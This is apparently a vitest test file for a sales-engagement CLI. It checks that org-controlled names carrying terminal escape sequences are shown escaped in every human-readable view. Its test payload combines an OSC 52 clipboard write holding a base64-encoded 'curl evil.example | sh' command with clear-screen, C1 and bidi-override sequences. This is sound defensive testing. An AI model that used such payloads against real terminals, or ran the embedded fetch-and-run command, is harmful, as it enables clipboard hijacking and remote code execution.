/**
 * Names an org controls (sequence, template, prospect, mailbox names) holding escape sequences,
 * read back through every command with a human view: the reports' terminal drawing, tables,
 * `get`, the upsert plan, enroll's summary and errors that quote a name. None of them may reach
 * the terminal raw: each is shown escaped, as output/terminal-text.ts writes it. In-process runs
 * against a real sandbox over HTTP (the program and its Context are bin/svc's).
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runInProcess } from '../helpers/in-process-cli.js';
import { tempDir } from '../helpers/run-svc.js';
import { defaultOrg } from '../../src/sandbox/data/org.js';
import { sandboxWithEnv, type TestSandbox } from '../helpers/sandbox.js';

let sb: TestSandbox;
let env: () => Record<string, string>;

/** What a terminal acts on: ESC, BEL, CR and other C0 (newline aside), DEL, C1, bidi controls. */
const RAW_CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
const OSC52 = `\x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07`;
/** Clipboard write, clear screen, a C1 CSI and a right-to-left override in one name. */
const hostile = (what: string) => `${what}${OSC52}\x1b[2J\x1b[H\x9b31m\u202eolleh\u202c`;
const SEQ = hostile('Seq');
const TPL = hostile('Tpl');
const PERSON = hostile('Eve');

type R = { id: string; attributes: Record<string, any>; relationships?: Record<string, { data?: any }> };
async function api(method: string, p: string, body?: unknown): Promise<any> {
  const r = await fetch(`${sb.baseUrl}/${p}`, {
    method,
    headers: { Authorization: `Bearer ${sb.token}`, 'Content-Type': 'application/vnd.api+json' },
    ...(body ? { body: JSON.stringify(body) } : {}),
  });
  expect(r.status, `${method} ${p}`).toBeLessThan(300);
  return r.json();
}
const rel = (r: R, name: string) => {
  const d = r.relationships?.[name]?.data;
  return d && !Array.isArray(d) ? String(d.id) : undefined;
};

let seqId = '';
let prospectId = '';
let prospectEmail = '';

beforeAll(async () => {
  // A custom-field label the org controls, shown by `schema show`.
  const org = defaultOrg();
  org.customFields['prospect']!['custom9'] = { type: 'text', required: false, label: hostile('Label'), definition: null };
  ({ sb, env } = await sandboxWithEnv({ seed: 400, org }));
  // The sequence with the most delivered mailings in the last 30 days, its templates and one of
  // its enrolled prospects get the hostile names.
  const since = new Date(Date.now() - 20 * 86_400_000).toISOString().slice(0, 10);
  const mailings: R[] = (await api('GET', `mailings?page[limit]=1000&filter[deliveredAt]=${since}..&fields[mailing]=sequence,prospect`))
    .data;
  const bySeq = new Map<string, number>();
  for (const m of mailings) {
    const s = rel(m, 'sequence');
    if (s) bySeq.set(s, (bySeq.get(s) ?? 0) + 1);
  }
  seqId = [...bySeq].sort((a, b) => b[1] - a[1])[0]![0];
  await api('PATCH', `sequences/${seqId}`, { data: { type: 'sequence', id: Number(seqId), attributes: { name: SEQ } } });
  const steps: R[] = (await api('GET', `sequenceSteps?filter[sequence][id]=${seqId}&include=sequenceTemplates.template`)).included ?? [];
  const templates = steps.filter((x: any) => x.type === 'template');
  expect(templates.length).toBeGreaterThan(0);
  for (const t of templates)
    await api('PATCH', `templates/${t.id}`, { data: { type: 'template', id: Number(t.id), attributes: { name: TPL } } });
  const states: R[] = (await api('GET', `sequenceStates?filter[sequence][id]=${seqId}&filter[state]=active&page[limit]=5`)).data;
  prospectId = rel(states[0]!, 'prospect')!;
  prospectEmail = `eve.${Date.now()}@hostile.test`;
  await api('PATCH', `prospects/${prospectId}`, {
    data: { type: 'prospect', id: Number(prospectId), attributes: { firstName: PERSON, lastName: PERSON, emails: [prospectEmail] } },
  });
});
afterAll(() => sb?.close());

async function human(argv: string[], expectCode = 0) {
  const r = await runInProcess([...argv], { ...env(), NO_COLOR: '1' }, { timeoutMs: 30_000, columns: 100 });
  expect(r.threw, String(r.threw)).toBeUndefined();
  expect(r.code, `${argv.join(' ')}\n${r.stderr}`).toBe(expectCode);
  return r;
}

/** The run printed no raw control and showed `name`'s escaped form (at least its start). */
function escapedOnly(out: string, shows: RegExp) {
  expect(out).not.toMatch(RAW_CONTROL);
  expect(out).toMatch(shows);
}

describe('hostile names in every human view', () => {
  it('report sequences, sequence (by id and by name), mailings by sequence, prospect: escaped in the drawing', async () => {
    const seqs = await human(['report', 'sequences', '-o', 'table', '--limit', '1000']);
    escapedOnly(seqs.stdout, /Seq\\e\]52;c;/);
    const funnel = await human(['report', 'sequence', seqId, '-o', 'table']);
    escapedOnly(funnel.stdout, /Sequence Seq\\e\]52;c;\S+\\a\\e\[2J\\e\[H\\x9b31m\\u202eolleh\\u202c \(/);
    expect(funnel.stdout).toMatch(/Tpl\\e\]52;c;/);
    const byName = await human(['report', 'sequence', SEQ, '-o', 'table']);
    escapedOnly(byName.stdout, /Sequence Seq\\e\]52;c;/);
    const mailings = await human(['report', 'mailings', '--by', 'sequence', '-o', 'table']);
    escapedOnly(mailings.stdout, /Seq\\e\]52;c;/);
    const ascii = await human(['report', 'mailings', '--by', 'sequence', '-o', 'table', '--ascii']);
    escapedOnly(ascii.stdout, /Seq\\e\]52;c;/);
    const prospect = await human(['report', 'prospect', prospectId, '-o', 'table']);
    escapedOnly(prospect.stdout, /Prospect Eve\\e\]52;c;/);
    expect(prospect.stdout).toMatch(/Seq\\e\]52;c;/);
    // Cut names are cut before an escape, never inside one.
    for (const r of [seqs, mailings, prospect]) expect(r.stdout).not.toMatch(/\\…/);
  });

  it('an error that quotes a name shows it escaped', async () => {
    const r = await human(['report', 'sequence', `${SEQ} nope`, '-o', 'table'], 2);
    escapedOnly(r.stderr, /no sequence named "Seq\\e\]52;c;/);
  });

  it('list and get tables, the upsert plan and enroll dry run show the names escaped', async () => {
    const list = await human(['sequences', 'list', '--filter', `id=${seqId}`, '-o', 'table']);
    escapedOnly(list.stdout, /Seq\\e\]52;c;/);
    const get = await human(['prospects', 'get', prospectId, '-o', 'table']);
    escapedOnly(get.stdout, /Eve\\e\]52;c;/);
    const dir = tempDir();
    const file = path.join(dir, 'in.csv');
    fs.writeFileSync(file, `emails,firstName,title\n${prospectEmail},Eve,${hostile('CEO')}\nnew.${prospectEmail},${PERSON},x\n`);
    const plan = await human(['prospects', 'upsert', '--input', file, '--match', 'emails', '--plan', '-o', 'table']);
    // Values are quoted as JSON strings (C0 as \u001b), the rest escaped as everywhere.
    escapedOnly(plan.stdout, /firstName: "Eve\\u001b\]52;c;\S+" → "Eve"/);
    expect(plan.stdout).toMatch(/\\u202eolleh/);
    const enroll = await human(['enroll', '--sequence', seqId, '--mailbox', '1', '--prospect', prospectId, '--dry-run']);
    escapedOnly(enroll.stderr, /sequence "Seq\\e\]52;c;/);
    // A custom-field label, pulled into the schema cache and shown.
    const e = env();
    await runInProcess(['schema', 'pull'], e, { timeoutMs: 30_000 });
    const schema = await runInProcess(['schema', 'show', 'prospect', '-o', 'table'], { ...e, NO_COLOR: '1' }, { timeoutMs: 30_000 });
    expect(schema.code, schema.stderr).toBe(0);
    escapedOnly(schema.stdout, /Label\\e\]52;c;/);
  });
});
